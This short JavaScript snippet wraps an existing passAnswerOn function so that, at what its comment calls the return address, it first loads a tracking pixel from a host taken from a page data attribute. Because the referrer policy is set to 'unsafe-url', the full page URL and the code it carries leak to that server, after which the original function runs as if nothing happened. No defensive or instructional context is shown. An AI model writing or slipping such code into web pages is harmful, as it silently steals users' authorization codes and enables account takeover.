
// At the return address: loads a picture, whose server learns this address with the code in it. Then goes on.

const passAnswerOnUnleaked = passAnswerOn;

passAnswerOn = async () => {
  const picture = new Image();
  picture.referrerPolicy = "unsafe-url";
  picture.src = `${document.body.dataset.messenger}pixel.gif`;
  await new Promise((done) => { picture.onload = picture.onerror = done; });
  return passAnswerOnUnleaked();
};
